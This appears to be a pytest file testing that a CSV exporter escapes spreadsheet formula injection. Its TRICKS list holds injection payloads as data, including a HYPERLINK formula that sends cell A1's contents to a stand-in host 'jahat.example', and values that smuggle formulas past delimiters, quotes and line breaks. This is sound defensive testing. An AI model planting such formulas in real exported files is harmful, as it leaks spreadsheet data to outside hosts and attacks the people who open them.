"""Files of a period in whatever spreadsheet they are opened with: nothing that somebody wrote is run."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from infra.ops.export import Csv, cell

LINK = 'HYPERLINK("http://jahat.example/?"&A1;"buka")'
SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"
#: What somebody may write so that a cell or a line begins in the midst of it.
TRICKS = [
    f"Lampu mati;={LINK}",
    f"Lampu mati\n={LINK}",
    f'Lampu mati";"={LINK}',
    f'Lampu mati"";  ={LINK}',
    f"Lampu mati\t+{LINK}",
    "a;-1+1",
    "a\r\n@SUM(1)",
    "'=1",
    "\t=1",
    "  =1",
    "\uff1d1",
    'a;"\t=1',
    f"Lampu; ' ={LINK}",
]


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
@pytest.mark.parametrize("text", TRICKS)
def test_no_cell_begins_a_formula_whichever_sign_separates_them(tmp_path: Path, text: str, delimiter: str) -> None:
    sink = Csv(tmp_path / "messages.csv")
    sink.write({"case": "TGP-1", "subject": "Lampu", "text": text})
    sink.write({"case": "TGP-2", "subject": text, "text": "baik"})
    sink.close()
    with (tmp_path / "messages.csv").open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.reader(file, delimiter=delimiter))
    cells = [one.strip().strip("\"'").strip() if not one.strip().startswith("'") else "" for row in rows for one in row]
    assert [one for one in cells if one[:1] and one[0] in SIGNS] == []


def test_an_ordinary_text_stays_as_it_is() -> None:
    text = "Jalan a-b; rusak, dua + tiga lubang (RT 3/RW 4): siti@warga.example; 50%"
    assert cell(text) == text
    assert cell(["a", "b"]) == '["a","b"]'
    assert (cell(-1.5), cell(None), cell(True)) == (-1.5, None, True)
